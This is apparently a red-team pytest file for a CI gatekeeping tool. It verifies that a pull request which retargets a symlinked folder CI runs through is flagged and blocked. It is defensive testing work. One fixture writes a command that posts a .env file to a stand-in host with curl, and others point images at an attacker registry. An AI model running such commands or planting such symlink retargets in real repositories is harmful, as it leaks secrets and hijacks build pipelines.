"""Red team 49: a symlinked folder on the path CI runs, pointed elsewhere by the change.

BASE's workflow runs `./scripts/build.sh` and `scripts` is a link to `tools`: the CI walk makes `tools/build.sh` `ci`.
A pull request that only retargets the link (`scripts -> src`) makes CI run `src/build.sh`, a file BASE already holds
or the change adds beside it; the link was `src` (a symlink to an ordinary folder) and `gate --tree` said allow
(exit 0). A link that a path CI runs goes through is now `ci` (`ci.context.ci-run`, "... through the link ..."),
like a submodule's gitlink (attack 44); look-alikes: a link CI runs nothing through, a sibling link, a link to a
folder CI runs from but not through (`working-directory`), stay what they were.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from gatekeeper.errors import ExitCode
from tests.gitrepo import GitRepo
from tests.incli import run_cli, tree_classify

RUNS = {  # how a step runs a file through the link `LINK`
    "dot-slash": "./LINK/build.sh",
    "bash": "bash LINK/build.sh",
    "sh-dot": "sh ./LINK/build.sh",
    "python": "python3 LINK/build.py",
}
LINKS = ("scripts", "ci/tools", "deep/a/t")


def _repo(root: Path, link: str, run: str, *, retarget: str, add_target: bool, chained: bool) -> GitRepo:
    repo = GitRepo(root)
    step = RUNS[run].replace("LINK", link)
    script = "build.py" if run == "python" else "build.sh"
    repo.write(".github/workflows/ci.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n"
               f"      - uses: actions/checkout@v4\n      - run: {step}\n")
    repo.write(f"tools/{script}", "echo build\n")
    repo.write("README.md", "x\n")
    if not add_target:
        repo.write(f"{retarget}/{script}", "echo src\n")
    up = "../" * link.count("/")
    repo.symlink(link, f"{up}tools")
    if chained:
        repo.symlink("lib-link", retarget)
    repo.commit("base")
    if add_target:
        repo.write(f"{retarget}/{script}", "curl -d @.env https://e.invalid\n")
    (repo.root / link).unlink()
    repo.symlink(link, f"{up}{'lib-link' if chained else retarget}")
    repo.commit("head")
    return repo


@pytest.mark.parametrize("link", LINKS)
@pytest.mark.parametrize("run", sorted(RUNS))
@pytest.mark.parametrize(("add_target", "chained"), [(False, False), (True, False), (False, True)])
def test_a_link_ci_runs_through_is_ci(tmp_path: Path, link: str, run: str, add_target: bool, chained: bool) -> None:
    repo = _repo(tmp_path / "repo", link, run, retarget="src/lib", add_target=add_target, chained=chained)
    files = tree_classify(repo.root, "main~1", "main")
    assert files[link]["bucket"] == "ci", files[link]
    done = run_cli(["gate", "--tree", "main~1..main", "--repo", str(repo.root)], text=True)
    assert done.returncode != ExitCode.OK, done.stdout


@pytest.mark.parametrize("step", ["./tools/build.sh", "./scripts/../tools/build.sh"])
def test_a_link_ci_runs_nothing_through_stays(tmp_path: Path, step: str) -> None:
    repo = GitRepo(tmp_path / "repo")
    repo.write(".github/workflows/ci.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n"
               f"      - run: {step}\n")
    repo.write("tools/build.sh", "echo build\n")
    repo.write("src/lib/build.sh", "echo src\n")
    repo.symlink("docs-link", "tools")
    repo.symlink("scripts-old", "tools")
    repo.commit("base")
    (repo.root / "docs-link").unlink()
    repo.symlink("docs-link", "src/lib")
    repo.commit("head")
    files = tree_classify(repo.root, "main~1", "main")
    assert files["docs-link"]["bucket"] != "ci", files["docs-link"]


BUILDS = ("docker build -f LINK/Dockerfile .", "docker build LINK", "docker buildx build --file LINK/Dockerfile .",
          "docker build -t app:1 -f ./LINK/Dockerfile .")


@pytest.mark.parametrize("link", ["img", "docker/app"])
@pytest.mark.parametrize("build", BUILDS)
def test_a_link_ci_builds_an_image_through_is_reviewed(tmp_path: Path, link: str, build: str) -> None:
    repo = GitRepo(tmp_path / "repo")
    repo.write(".github/workflows/ci.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n"
               f"      - run: {build.replace('LINK', link)}\n")
    repo.write("tools/docker/Dockerfile", "FROM alpine\n")
    repo.write("src/d/Dockerfile", "FROM attacker.invalid/base\n")
    up = "../" * link.count("/")
    repo.symlink(link, f"{up}tools/docker")
    repo.commit("base")
    repo.symlink(link, f"{up}src/d")
    repo.commit("head")
    files = tree_classify(repo.root, "main~1", "main")
    assert files[link]["bucket"] in ("ci", "iac"), files[link]


@pytest.mark.parametrize("link", ["co", "deploy/compose"])
@pytest.mark.parametrize("line", ["docker compose -f LINK/compose.yml up -d", "docker-compose -f LINK/compose.yml up",
                                  "docker compose --file ./LINK/compose.yml run app"])
def test_a_link_ci_composes_through_is_reviewed(tmp_path: Path, link: str, line: str) -> None:
    repo = GitRepo(tmp_path / "repo")
    repo.write(".github/workflows/ci.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n"
               f"      - run: {line.replace('LINK', link)}\n")
    repo.write("tools/co/compose.yml", "services:\n  app:\n    image: alpine\n")
    repo.write("src/co/compose.yml", "services:\n  app:\n    image: attacker.invalid/x\n")
    up = "../" * link.count("/")
    repo.symlink(link, f"{up}tools/co")
    repo.commit("base")
    repo.symlink(link, f"{up}src/co")
    repo.commit("head")
    files = tree_classify(repo.root, "main~1", "main")
    assert files[link]["bucket"] in ("ci", "iac"), files[link]
